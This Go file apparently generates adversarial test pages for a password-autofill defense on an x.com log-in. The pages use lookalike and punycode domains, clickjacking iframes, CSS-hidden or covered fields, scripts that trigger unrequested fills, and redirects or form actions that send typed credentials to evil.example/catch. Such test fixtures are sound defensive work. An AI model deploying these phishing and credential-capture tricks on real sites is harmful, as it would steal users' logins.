package replica

import (
	"cmp"
	"fmt"
	"strings"
)

// lookalikes are hosts that are not x.com but want to be taken for it, by what the user is told of them.
var lookalikes = []struct{ host, want string }{
	{"evil-x.com", "look_alike"}, {"x.com.login-portal.example", "look_alike"}, {"x-com.example", "look_alike"}, {"xcom.example", Elsewhere},
	{"www-x.com", "look_alike"}, {"login.x.com.example", "look_alike"}, {"x.co", "look_alike"}, {"x.cam", "look_alike"}, {"x.com.co", "look_alike"},
	{"secure-x.com", "look_alike"}, {"xn--u1a.com", "idn"}, {"xn--x-gub.com", "idn"}, {"xx.com", Elsewhere}, {"x.corn.example", "look_alike"},
	{"twitter.com.example", Elsewhere}, {"twltter.com", Elsewhere}, {"xn--twtter-qvf.com", "idn"}, {"x.com-login.example", "look_alike"}, {"myx.com", Elsewhere},
	{"x.org", "look_alike"}, {"phish.x.com", Elsewhere}, {"login.x.com", Elsewhere}, {"a.b.x.com", Elsewhere}, {"help.x.com", Elsewhere},
	{"ads.x.com", Elsewhere}, {"xn--rca.com", "idn"}, {"127.0.0.1.x.com.example", "look_alike"}, {"x.com-example.example", "look_alike"},
	{"xn--0jg.com", "idn"}, {"accounts-x.com", "look_alike"},
}

func lookalike(n int) Hostile {
	switch {
	case n >= 38:
		return one("https", pick(n, []string{"x.com@evil.example", "x.com:login@evil.example"}), loginPath, bothFields).
			because("x.com is only the user's name in the address", Elsewhere)
	case n >= 34:
		return one("http", pick(n, []string{"clear-x.com", "x.com.clear.example", "xclear.com", "x-clear.org"}), loginPath, bothFields).because("not encrypted either", Elsewhere)
	case n >= 30:
		return one("https", pick(n, []string{"x.com:8443", "x.com:444", "www.x.com:8443", "pro.x.com:4433"}), loginPath, bothFields).
			because("not the network's port", "look_alike")
	}
	l := lookalikes[n]
	return one("https", l.host, pick(n, []string{"/login", loginPath}), bothFields).because(l.host+" is not x.com", l.want)
}

// framed puts fields into frames: the network's page in a stranger's, a stranger's in the network's, both around each
// other, and the network's in a frame of its own that nobody can see.
func framed(n int) Hostile {
	attributes := pick(n/4, []string{``, `sandbox="allow-scripts allow-same-origin allow-forms"`, `allow="publickey-credentials-get"`, `style="border:0"`, `sandbox="allow-scripts"`})
	switch n % 4 {
	case 0:
		return frames([]string{"evil.example/page", "x.com" + innerPath}, attributes).because("x.com inside evil.example", Elsewhere)
	case 1:
		return frames([]string{"x.com" + loginPath, "evil.example/inner"}, attributes).because("evil.example inside x.com", AtLogin)
	case 2:
		return frames([]string{"x.com" + loginPath, "middle.example/middle", "x.com" + innerPath}, attributes).because("a stranger between x.com and x.com", AtLogin)
	}
	unseen := pick(n/4, []struct{ frame, above, want string }{
		{"opacity:0.01", "", "transparent"}, {"position:fixed;left:-9000px", "", "outside"}, {"clip-path:circle(0)", "", "covered"},
		{"transform:scale(0.1)", "", "too_small"}, {"", `<div style="position:fixed;inset:0;background:#fff"></div>`, "covered"},
	})
	return ownFrame(unseen.frame, unseen.above).because("a frame of x.com in x.com that nobody sees", unseen.want)
}

// frames makes documents of which each holds the next one in a frame; the last one has the fields.
func frames(places []string, attributes string) Hostile {
	h := Hostile{URL: "https://" + places[0], Pages: map[string]string{places[len(places)-1]: bothFields}}
	for i, inner := range places[1:] {
		h.Pages[places[i]] = fmt.Sprintf(`<iframe %s src="https://%s" width="600" height="400"></iframe>`, attributes, inner)
	}
	return h
}

// ownFrame is x.com in a frame of x.com with a style, and something above it.
func ownFrame(style, above string) Hostile {
	h := frames([]string{"x.com" + loginPath, "x.com" + innerPath}, `style="`+style+`"`)
	h.Pages["x.com"+loginPath] += above
	return h
}

// outOfSight are styles that take a field, or what it stands in, out of the user's sight, and what the user is told; around
// is what of the latter, if it is something else.
var outOfSight = []struct{ style, want, around string }{
	{"opacity:0", "transparent", ""},
	{"opacity:0.01", "transparent", ""},
	{"opacity:0.3", "transparent", ""},
	{"visibility:hidden", "covered", ""},
	{"display:none", "too_small", ""},
	{"position:absolute;left:-5000px", "outside", ""},
	{"position:absolute;top:-5000px", "outside", ""},
	{"width:1px;height:1px;padding:0;border:0;overflow:hidden", "too_small", "covered"},
	{"filter:url(#gone)", "transparent", ""},
	{"transform:scale(0.02)", "too_small", ""},
	{"clip-path:inset(100%)", "covered", ""},
	{"clip-path:circle(0)", "covered", ""},
	{"pointer-events:none", "no_pointer", ""},
	{"position:fixed;top:200vh", "outside", ""},
	{"filter:opacity(0)", "transparent", ""},
	{"height:0;overflow:hidden;border:0;padding:0", "too_small", "covered"},
	{"transform:translateX(-3000px)", "outside", ""},
	{"transform:rotateY(90deg)", "too_small", ""},
	{"mask:linear-gradient(transparent,transparent)", "transparent", ""},
	{"position:absolute;clip:rect(0,0,0,0)", "covered", ""},
}

// hidden hides the fields (n < 20) or an element around them on the network's own host. Some of the latter lie about
// what is around the fields.
func hidden(n int) Hostile {
	h := outOfSight[n%len(outOfSight)]
	if n < len(outOfSight) {
		return onX(fmt.Sprintf(`<form><input name="username_or_email" autocomplete="username webauthn" style="%s"><input name="password" type="password" style="%s"></form>`, h.style, h.style)+nothing).
			because("fields cannot be seen: "+h.style, h.want)
	}
	body := fmt.Sprintf(`<div style="%s"><div>%s</div></div>`, h.style, bothFields)
	if lie := lies[h.style]; lie != "" {
		body = strings.ReplaceAll(lie, "STYLE", h.style)
	}
	return onX(body+nothing).because("fields cannot be seen in something with "+h.style, cmp.Or(h.around, h.want))
}

// nothing is what can be seen instead, with a filter that leaves nothing.
const nothing = `<p>Nothing to see.</p><svg width="0" height="0"><filter id="gone"><feColorMatrix values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0"/></filter></svg>`

// lies are pages that hide what hides the fields: by a field that a script takes for the form's parent or slot, and by the
// slot of a closed shadow root.
var lies = map[string]string{
	"opacity:0":         `<div style="STYLE"><form id="real">` + bothInputs + `</form></div><input name="parentElement" form="real" type="hidden">`,
	"opacity:0.01":      `<div style="STYLE"><form id="real">` + bothInputs + `</form></div><input name="assignedSlot" form="real" type="hidden">`,
	"opacity:0.3":       `<div><template shadowrootmode="closed"><div style="STYLE"><slot></slot></div></template>` + bothFields + `</div>`,
	"filter:opacity(0)": `<div><template shadowrootmode="closed"><slot style="STYLE;display:block"></slot></template>` + bothFields + `</div>`,
}

// covered lays something over the fields, and in half of the pages takes the focus back and forth.
func covered(n int) Hostile {
	above := pick(n, []string{
		`<div style="position:fixed;inset:0;background:#fff;z-index:9">Accept cookies?</div>`,
		`<div style="position:fixed;inset:0;background:#fff8;z-index:9"></div>`,
		`<iframe srcdoc="<p>hello</p>" style="position:fixed;inset:0;width:100%;height:100%;background:#fff;z-index:9"></iframe>`,
		`<div popover="manual" id="over" style="inset:0;width:100%;height:100%;background:#fff">Hello</div><script>document.getElementById("over").showPopover()</script>`,
		`<dialog id="over" style="inset:0;width:100%;height:100%">Hello</dialog><script>document.getElementById("over").showModal()</script>`,
	})
	if n >= 10 {
		above += `<script>setInterval(() => { for (const i of document.querySelectorAll("input")) i.focus(); }, 20)</script>`
	}
	return onX(pick(n/5, []string{bothFields, passField})+above).because("something lies over the fields", "covered")
}

// wrongForms have fields like those of a log-in, and are none.
var wrongForms = []struct{ html, want string }{
	{`<form id="signup"><h1>Create your account</h1><input name="username_or_email" autocomplete="username"><input name="password" type="password" autocomplete="new-password"></form>`, "new_password"},
	{`<form><h1>Change your password</h1><input name="password" type="password" autocomplete="current-password"><input name="new_password" type="password"><input name="confirm" type="password"></form>`, "two_passwords"},
	{`<form><h1>Choose a new password</h1><input name="password" type="password"><input name="password" type="password"></form>`, "two_passwords"},
	{`<form id="change"><input name="password" type="password"></form><p><input name="new_password" type="password" form="change"></p>`, "two_passwords"},
	{`<form role="search"><input type="search" name="username_or_email" autocomplete="username"></form>`, "search"},
	{`<form><h1>Newsletter</h1><input name="username_or_email" type="email"><button>Subscribe</button></form>`, "newsletter"},
	{`<form><input autocomplete="cc-number" name="username_or_email"><input autocomplete="cc-csc" type="password" name="password"></form>`, "payment"},
	{`<form><input name="username_or_email" autocomplete="username" disabled><input name="password" type="password" disabled></form>`, "disabled"},
	{`<form><input name="username_or_email" autocomplete="username" readonly><input name="password" type="password" readonly></form>`, "read_only"},
	{`<form action="https://evil.example/catch">` + bothInputs + `</form>`, "sends_elsewhere"},
}

// wrongPlaces are addresses of X at which the form of a log-in is something else.
var wrongPlaces = []struct{ path, want string }{
	{loginPath + "?mode=signup", "sign_up"}, {loginPath + "/create-account", "sign_up"}, {"/login/reset-password", "change_password"}, {"/login/forgot", "change_password"},
	{loginPath + "?do=change-email", "change_email"}, {"/login#newsletter", "newsletter"}, {"/login/checkout", "payment"},
	{"/i/flow/signup", AtLogin}, {"/settings/password", AtLogin}, {"/compose/post", AtLogin},
}

// wrongForm has fields that are no log-in, by what they are or by where they are.
func wrongForm(n int) Hostile {
	if n < len(wrongForms) {
		return onX(wrongForms[n].html).because("no form to log in", wrongForms[n].want)
	}
	p := wrongPlaces[n-len(wrongForms)]
	path, anchor, _ := strings.Cut(p.path, "#")
	h := one("https", "x.com", path, bothFields).because("no place to log in", p.want)
	if anchor != "" {
		h.URL += "#" + anchor
	}
	return h
}

// scripted presses and types by itself; nobody asked for a fill.
func scripted(n int) Hostile {
	act := pick(n, []string{
		`for (const i of document.querySelectorAll("input")) { i.focus(); i.click(); }`,
		`document.querySelector("button").dispatchEvent(new MouseEvent("click", {bubbles: true}));`,
		`for (const type of ["pointerdown","mousedown","mouseup","click"]) document.querySelector("input").dispatchEvent(new MouseEvent(type, {bubbles: true, composed: true}));`,
		`document.dispatchEvent(new KeyboardEvent("keydown", {key: "L", altKey: true, shiftKey: true, bubbles: true}));`,
		`window.postMessage({type: "fill.start"}, "*"); window.postMessage({v: 1, id: 1, type: "fill.get", body: {field: "password"}}, "*");`,
		`dispatchEvent(new CustomEvent("fill.start", {detail: {only: "password"}}));`,
		`try { chrome.runtime.sendMessage({type: "fill.value", field: "password"}); } catch {}`,
		`navigator.credentials?.get?.({password: true, mediation: "silent"}).catch(() => {});`,
		`for (const e of document.querySelectorAll("*")) e.dispatchEvent(new InputEvent("beforeinput", {inputType: "insertReplacementText", bubbles: true}));`,
		`history.replaceState(null, "", "?mode=login&fill=" + window.pressed);`,
	})
	script := `<script>window.pressed = 0; document.querySelector("form").onsubmit = () => false; addEventListener("load", () => setInterval(() => { window.pressed++; ` + act + ` }, 40))</script>`
	h := one("https", pick(n/10, []string{"x.com", "www.x.com"}), loginPath, bothFields+script).because("presses by itself", "")
	h.Unasked = true
	return h
}

// changing is a page that does something once a value is on its way to it.
func changing(fields, change string) Hostile {
	h := onX(fields)
	h.Change = change
	return h
}

// leaves goes to another document while a value is on its way.
func leaves(n int) Hostile {
	away := pick(n/5, []string{"https://evil.example/catch", "https://evil-x.com/catch", "https://x.com.login-portal.example/catch", "https://www.x.com:8443/catch"})
	h := changing(passField, strings.ReplaceAll(pick(n, []string{
		`location.assign("AWAY")`,
		`location.replace("AWAY")`,
		`const f = document.querySelector("form"); f.action = "AWAY"; f.method = "post"; f.submit()`,
		`document.open(); document.write('<a id="go" href="AWAY">Go on</a>'); document.close(); document.getElementById("go").click()`,
		`history.pushState(null, "", "/settings/password"); location.assign("AWAY")`,
	}), "AWAY", away)).because("goes to "+away, "page_changed")
	h.Away = away
	_, place, _ := strings.Cut(away, "://")
	host, path, _ := strings.Cut(place, "/")
	host, _, _ = strings.Cut(host, ":")
	h.Pages[host+"/"+path] = bothFields
	return h
}

// slipping are changes of a document that stays; `form` and `inputs` are its own.
var slipping = []struct{ change, want string }{
	{`history.pushState(null, "", "/settings/password")`, "page_changed"},
	{`history.pushState(null, "", "/i/flow/signup"); form.innerHTML = '<input name="password" type="password" autocomplete="new-password">'`, "page_changed"},
	{`history.replaceState(null, "", "?mode=signup")`, "sign_up"},
	{`location.hash = "settings/password"`, "change_password"},
	{`inputs[0].outerHTML = '<input name="username_or_email" type="search">'; inputs[1].remove()`, "search"},
	{`for (const i of inputs) i.replaceWith(Object.assign(document.createElement("input"), {name: i.name, type: i.type, autocomplete: "new-password"}))`, "new_password"},
	{`for (const i of inputs) i.type = "search"`, "search"},
	{`form.insertAdjacentHTML("beforeend", '<input type="password" name="again">')`, "two_passwords"},
	{`document.body.insertAdjacentHTML("beforeend", '<form id="thief" action="https://evil.example/catch" method="post"></form>'); for (const i of inputs) i.setAttribute("form", "thief")`, "sends_elsewhere"},
	{`form.action = "https://evil.example/catch"`, "sends_elsewhere"},
	{`form.querySelector("button").formAction = "https://evil.example/catch"`, "sends_elsewhere"},
	{`form.action = "http://x.com/catch"`, "sends_elsewhere"},
	{`const frame = document.body.appendChild(document.createElement("iframe")); frame.contentDocument.body.append(...inputs)`, "page_changed"},
	{`form.outerHTML = '<iframe src="https://evil.example/inner" width="500" height="300"></iframe>'`, "page_changed"},
	{`form.style.opacity = 0`, "transparent"},
	{`document.body.insertAdjacentHTML("beforeend", '<div style="position:fixed;inset:0"></div>')`, "covered"},
	{`form.style.display = "none"`, "too_small"},
	{`form.style.cssText = "position:fixed;left:-3000px"`, "outside"},
	{`for (const i of inputs) i.disabled = true`, "disabled"},
	{`const host = document.body.appendChild(document.createElement("div")); host.attachShadow({mode: "closed"}).append(form)`, "page_changed"},
}

// slips stays in its document, but changes into something else while a value is on its way.
func slips(n int) Hostile {
	s := slipping[n]
	h := changing(bothFields, `const form = document.querySelector("form"), inputs = [...document.querySelectorAll("input")]; `+s.change+`; window.changed = true`).
		because("changes: "+s.change, s.want)
	h.Pages["evil.example/inner"] = bothFields
	return h
}
